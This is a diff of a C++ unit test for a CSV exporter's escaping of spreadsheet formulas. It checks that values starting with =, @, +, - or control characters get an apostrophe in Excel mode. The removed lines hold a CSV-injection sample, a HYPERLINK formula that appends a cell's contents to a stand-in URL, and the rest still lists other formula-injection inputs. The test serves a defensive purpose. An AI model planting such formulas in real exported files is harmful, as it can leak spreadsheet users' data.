@@ -199,28 +199,20 @@ TEST(CompanyEntity, CsvFieldRuleOnItsOwn)
     EXPECT_EQ(wxString::FromUTF8("xa\"\"b\"\xE2\x82\xAC\";"), line);
 
     // For Excel a value that would run as a formula starts with the apostrophe that makes it
-    // text, a delimiter doubled as any; the plain file keeps every value as it is.
+    // text; the plain file keeps every value as it is.
     const std::initializer_list<std::pair<const char*, const char*>> risky = {
-        {"id", "1"},
-        {"name", "=HYPERLINK(\"http://x?d=\"&B3,\"Web\")"},
+        {"name", "=HYPERLINK(\"x\")"},
         {"ceo", "@SUM(1,2)"},
         {"address", "-2+3"},
-        {"zipcode", "\t5"},
-        {"city", "K=ln"},
-        {"phone", "+49 160 1"},
-        {"notes", "\r\nx"}};
-    const std::string risks =
-        "\"=HYPERLINK(\"\"http://x?d=\"\"&B3,\"\"Web\"\")\";\"@SUM(1,2)\";"
-        "\"-2+3\";\"\";\"\t5\";\"K=ln\";\"\";\"+49 160 1\";";
-    EXPECT_EQ("\"1\";" + risks, CsvLine(CsvConfigType(), risky).substr(0, 4 + risks.size()));
+        {"housenumber", "\tA"},
+        {"zipcode", "\rB"},
+        {"city", "+49 160 1"},
+        {"state", "K=ln"}};
+    EXPECT_EQ(CsvLine(CsvConfigType(), risky).find('\''), std::string::npos);
     CsvConfigType excel;
     excel.SetByteOrderMark(true);
-    EXPECT_EQ(
-        "\"1\";\"'=HYPERLINK(\"\"http://x?d=\"\"&B3,\"\"Web\"\")\";\"'@SUM(1,2)\";\"'-2+3\";"
-        "\"\";\"'\t5\";\"K=ln\";\"\";\"'+49 160 1\";" +
-            Repeat("\"\";", 6) + "\"'\r\nx\";" + Repeat("\"\";", 14) + "\"\"\n",
-        CsvLine(excel, risky));
-    CsvConfigType apostrophes(wxString(), ";", "'", "\n", false, wxString());
-    apostrophes.SetByteOrderMark(true);
-    EXPECT_EQ("'1';'''-2+3';", CsvLine(apostrophes, {{"id", "1"}, {"name", "-2+3"}}).substr(0, 13));
+    const std::string marked =
+        "\"0\";\"'=HYPERLINK(\"\"x\"\")\";\"'@SUM(1,2)\";\"'-2+3\";\"'\tA\";"
+        "\"'\rB\";\"'+49 160 1\";\"K=ln\";";
+    EXPECT_EQ(marked, CsvLine(excel, risky).substr(0, marked.size()));
 }
